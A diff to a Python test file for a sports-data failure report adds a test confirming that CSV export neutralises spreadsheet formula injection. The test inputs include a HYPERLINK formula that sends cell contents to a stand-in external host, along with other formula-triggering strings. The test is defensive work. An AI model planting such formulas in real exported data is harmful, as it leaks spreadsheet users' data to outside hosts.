@@ -1,6 +1,7 @@
 """`nba-failures report`: the verification queries on the real pipeline's failure store, checked against the
 store read with plain DuckDB; the same report from BigQuery (emulator); the CLI end to end."""
 
+import csv
 import datetime as dt
 import io
 import json
@@ -114,6 +115,27 @@ def test_render_formats(failure_frame):
     assert csv["failures"].sum() == len(failure_frame) and list(csv.columns) == list(DISTRIBUTION_COLUMNS)
     with pytest.raises(ValueError, match="one section"):
         render(sections, "csv", len(failure_frame))
+
+
+def test_csv_cells_that_would_run_as_formulas_are_neutralized():
+    """CSV formula injection: landed text such as `=HYPERLINK(...)` reaches entity ids and reasons; in the CSV every
+    cell a spreadsheet would evaluate starts with a quote, other cells, numbers and the JSON output are as stored."""
+    hostile = ['=HYPERLINK("http://x.example/?"&A1,"click")', "+1+1", "-2+3", "@SUM(A1:A9)", "\t=1", "\r=1"]
+    recent = pd.DataFrame(
+        {
+            "entity_id": [*hostile, "joshgiddey"],
+            "failure_reason": ["gamebook/2023-01-15/x.csv: line 2", *hostile],
+            "retry_attempts": [-1, 0, 1, 2, 3, 4, 5],
+            "analysis_date": [dt.date(2023, 1, 15)] * 7,
+        }
+    )
+    rows = list(csv.DictReader(io.StringIO(render({"recent": recent}, "csv", len(recent)), newline="")))
+    assert [row["entity_id"] for row in rows] == ["'" + value for value in hostile] + ["joshgiddey"]
+    assert [row["failure_reason"] for row in rows] == ["gamebook/2023-01-15/x.csv: line 2"] + ["'" + value for value in hostile]
+    assert [row["retry_attempts"] for row in rows] == ["-1", "0", "1", "2", "3", "4", "5"]
+    assert rows[0]["analysis_date"] == "2023-01-15"
+    as_json = json.loads(render({"recent": recent}, "json", len(recent)))
+    assert [row["entity_id"] for row in as_json["recent"]][:6] == hostile
 
 
 def test_report_from_bigquery_matches_duckdb(failure_store, failure_frame, bigquery_warehouse):
